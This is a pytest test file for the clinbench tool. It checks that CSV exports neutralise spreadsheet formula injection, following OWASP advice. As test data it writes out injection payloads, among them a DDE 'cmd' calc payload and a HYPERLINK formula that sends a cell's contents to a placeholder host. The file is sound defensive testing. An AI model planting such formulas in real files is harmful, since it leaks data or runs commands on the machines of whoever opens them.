"""CSV files clinbench writes are safe to open in a spreadsheet: no text cell starts a formula.

OWASP's CSV-injection advice: a text cell beginning with =, +, -, @, tab or carriage return
is prefixed with a single quote. Parquet keeps the raw text; clinbench's own results reader
gives the original text back; numbers (negative ones too) stay numbers.
"""

from __future__ import annotations

import csv
import json
import re

import pandas as pd
import pytest
from typer.testing import CliRunner

from clinbench.cli import _mount, app
from clinbench.io import original_text, spreadsheet_text
from clinbench.results import read_results, write_results

runner = CliRunner()
_mount()
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?|[+-]")  # or a lone sign
HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")'
INJECTIONS = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx", "=cmd|' /C calc'!A0"]


def live_cells(path) -> list[str]:
    """Return the cells of a CSV file a spreadsheet would read as a formula."""
    with open(path, newline="", encoding="utf-8") as handle:
        cells = [c for row in csv.reader(handle) for c in row]
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not NUMBER.fullmatch(c)]  # fmt: skip


@pytest.mark.parametrize("text", [*INJECTIONS, HYPERLINK, "'=quoted", "''", "plain", "", "'"])
def test_a_neutralised_cell_reads_back_as_the_original(text):
    safe = spreadsheet_text(text)
    assert safe[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert original_text(safe) == text


def test_a_lone_sign_for_no_value_is_written_as_it_is():
    # a table's "-" (no value) or a lone "+" holds no expression for a spreadsheet to run;
    # anything after the sign, or another formula start, keeps the guard
    assert spreadsheet_text("-") == "-" and spreadsheet_text("+") == "+"
    assert spreadsheet_text("-x") == "'-x" and spreadsheet_text("--") == "'--"
    assert spreadsheet_text("=") == "'=" and spreadsheet_text("@") == "'@"


def test_numbers_written_as_text_stay_numbers():
    assert spreadsheet_text("-3.5") == "-3.5" and spreadsheet_text("+2e-3") == "+2e-3"
    assert spreadsheet_text(-3) == -3  # not text: left alone


def _injection_bank(tmp_path):
    items = tmp_path / "items.jsonl"
    replies = tmp_path / "replies.csv"
    rows = []
    with items.open("w") as f:
        for i, text in enumerate([*INJECTIONS, HYPERLINK]):
            # ids may not hold control characters (items/loader.py), other fields may
            item_id = f"{text}-{i}" if i % 2 and text[0] not in "\t\r" else f"q{i}"
            f.write(json.dumps({"id": item_id, "format": "sa", "stem": f"Say {i}.",
                                "answer": text, "source_pool": "=pool()",
                                "domain": "@domain"}) + "\n")  # fmt: skip
            rows.append({"item_id": item_id, "model": "m", "response": HYPERLINK})
    pd.DataFrame(rows).to_csv(replies, index=False, lineterminator="\r\n")  # quotes a \r
    return items, replies


def test_an_export_of_an_injection_bank_has_no_live_formula_cells(tmp_path):
    items, replies = _injection_bank(tmp_path)
    log_dir, out = tmp_path / "logs", tmp_path / "results.csv"
    ran = runner.invoke(app, ["run", str(items), "--model", "clinbench/replay/m", "-M",
                              f"responses={replies}", "--log-dir", str(log_dir),
                              "--display", "none"])  # fmt: skip
    assert ran.exit_code == 0, ran.output
    exported = runner.invoke(app, ["results", "export", str(log_dir), "--out", str(out)])
    assert exported.exit_code == 0, exported.output
    assert live_cells(out) == []
    parquet = tmp_path / "results.parquet"
    assert (
        runner.invoke(app, ["results", "export", str(log_dir), "--out", str(parquet)]).exit_code
        == 0
    )
    raw, back = read_results(parquet), read_results(out)
    assert set(raw["response"]) == {HYPERLINK}  # Parquet keeps the raw text
    assert set(raw["source_pool"]) == {"=pool()"}
    columns = ["item_id", "response", "target", "source_pool", "domain", "score"]
    pd.testing.assert_frame_equal(  # clinbench's reader gives the original text back
        back.sort_values("item_id")[columns].reset_index(drop=True),
        raw.sort_values("item_id")[columns].reset_index(drop=True),
    )


def test_negative_numbers_stay_numbers_in_a_written_table(tmp_path):
    frame = pd.DataFrame({"item_id": ["=x", "y"], "score": [-1.5, 2.0], "epoch": [1, 2]})
    out = write_results(frame, tmp_path / "t.csv")
    text = out.read_text()
    assert "-1.5" in text and "'-1.5" not in text and "'=x" in text


def test_stats_csv_output_is_neutralised(tmp_path):
    items, replies = _injection_bank(tmp_path)
    out = tmp_path / "results.csv"
    ran = runner.invoke(app, ["run", str(items), "--model", "clinbench/replay/m", "-M",
                              f"responses={replies}", "--log-dir", str(tmp_path / "logs"),
                              "--display", "none", "--out", str(out)])  # fmt: skip
    assert ran.exit_code == 0, ran.output
    table = tmp_path / "by_item.csv"
    listed = runner.invoke(app, ["results", "cost", str(out), "--by", "item_id",
                                 "--out", str(table)])  # fmt: skip
    assert listed.exit_code == 0, listed.output
    assert live_cells(table) == []
    shown = runner.invoke(app, ["results", "cost", str(out), "--by", "item_id",
                                "--format", "csv"])  # fmt: skip
    assert shown.exit_code == 0, shown.output
    (tmp_path / "shown.csv").write_text(shown.stdout)
    assert live_cells(tmp_path / "shown.csv") == []
